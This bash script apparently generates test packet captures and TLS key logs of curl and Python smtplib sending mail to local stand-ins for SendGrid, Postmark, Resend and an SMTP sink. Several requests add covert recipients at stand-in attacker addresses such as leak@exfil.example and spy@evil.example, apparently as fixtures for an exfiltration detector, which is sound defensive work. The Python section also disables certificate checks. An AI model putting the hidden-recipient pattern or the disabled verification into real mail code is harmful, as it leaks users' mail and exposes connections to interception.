#!/usr/bin/env bash
# Captures from clients other than Node: curl (libcurl/nghttp2: HTTP/2, gzip + chunked HTTP/1.1, TLS 1.2 ChaCha20)
# against the mail-API stand-in, and Python smtplib over STARTTLS and implicit TLS against the SMTP sink, each with the
# key log the client itself wrote (SSLKEYLOGFILE). Needs root (tcpdump), node, curl, python3, openssl, and the npm
# packages of captures/node (smtp-sink). Writes curl-apis.pcap/.keys and python-smtp-tls.pcap/.keys here.
set -euo pipefail
here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
caps="$(cd "$here/.." && pwd)"
work="$(mktemp -d)"; trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT
[ -d "$caps/node/node_modules" ] || (cd "$caps/node" && npm ci --silent --no-audit --no-fund)

capture() { # file filter
  tcpdump -i lo -w "$1" -U --immediate-mode "$2" 2>/dev/null & echo $! > "$work/td"; sleep 1
}
stop_capture() { sleep 1; kill -INT "$(cat "$work/td")"; wait "$(cat "$work/td")" 2>/dev/null || true; }

# --- curl against the stand-in (its CA in captures/api/pki), three requests, three providers -----------------------
STANDIN_ADDR=127.0.0.1 node "$caps/api/standin.js" --port 9553 --keylog "$work/standin.keys" --log "$work/standin.log" > "$work/standin.out" &
until grep -q READY "$work/standin.out" 2>/dev/null; do sleep 0.2; done
rm -f "$here/curl-apis.keys"; capture "$here/curl-apis.pcap" "tcp port 9553"
export SSLKEYLOGFILE="$here/curl-apis.keys"
ca="$caps/api/pki/ca.crt"
curl -s --http2 --cacert "$ca" --resolve api.sendgrid.com:9553:127.0.0.1 https://api.sendgrid.com:9553/v3/mail/send \
  -H "Authorization: Bearer SG.curltest.secret" -H "Content-Type: application/json" \
  --data '{"personalizations":[{"to":[{"email":"a@customer.example"}],"bcc":[{"email":"leak@exfil.example"}]}],"from":{"email":"ops@corp.example"},"subject":"curl h2","content":[{"type":"text/plain","value":"x"}]}' -o /dev/null
echo '{"From":"ops@corp.example","To":"b@customer.example","Bcc":"phan@giftshop.club","Subject":"curl gzip chunked","TextBody":"hello"}' | gzip > "$work/body.gz"
curl -s --http1.1 --cacert "$ca" --resolve api.postmarkapp.com:9553:127.0.0.1 https://api.postmarkapp.com:9553/email \
  -H "X-Postmark-Server-Token: pm-curl-secret" -H "Content-Type: application/json" -H "Content-Encoding: gzip" \
  -H "Transfer-Encoding: chunked" --data-binary @"$work/body.gz" -o /dev/null
curl -s --tlsv1.2 --tls-max 1.2 --ciphers ECDHE-RSA-CHACHA20-POLY1305 --http2 --cacert "$ca" \
  --resolve api.resend.com:9553:127.0.0.1 https://api.resend.com:9553/emails -H "Authorization: Bearer re_curl_secret" \
  -H "Content-Type: application/json" --data '{"from":"ops@corp.example","to":["c@customer.example"],"bcc":"x@other.example","subject":"curl tls12 chacha"}' -o /dev/null
unset SSLKEYLOGFILE
stop_capture

# --- Python smtplib: STARTTLS with AUTH PLAIN, then implicit TLS --------------------------------------------------------
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=mx.test -days 2 -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
node "$caps/scripts/smtp-sink.js" --listen starttls:127.0.0.1:3587 --listen tls:127.0.0.1:3465 --cert "$work" --ready "$work/sink.ready" > "$work/sink.log" 2>&1 &
until [ -f "$work/sink.ready" ]; do sleep 0.2; done
rm -f "$here/python-smtp-tls.keys"; capture "$here/python-smtp-tls.pcap" "tcp port 3587 or tcp port 3465"
SSLKEYLOGFILE="$here/python-smtp-tls.keys" python3 - <<'PY'
import smtplib, ssl
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
with smtplib.SMTP('127.0.0.1', 3587) as s:
    s.starttls(context=ctx); s.login('u', 'p-secret-123')
    s.sendmail('bot@corp.example', ['x@customer.example', 'phan@giftshop.club'],
               b'From: bot@corp.example\r\nTo: x@customer.example\r\nSubject: py starttls\r\n\r\nhi\r\n')
with smtplib.SMTP_SSL('127.0.0.1', 3465, context=ctx) as s:
    s.sendmail('bot@corp.example', ['y@customer.example', 'spy@evil.example'],
               b'From: bot@corp.example\r\nTo: y@customer.example\r\nSubject: py smtps\r\n\r\nhi\r\n')
PY
stop_capture
ls -l "$here"/*.pcap "$here"/*.keys
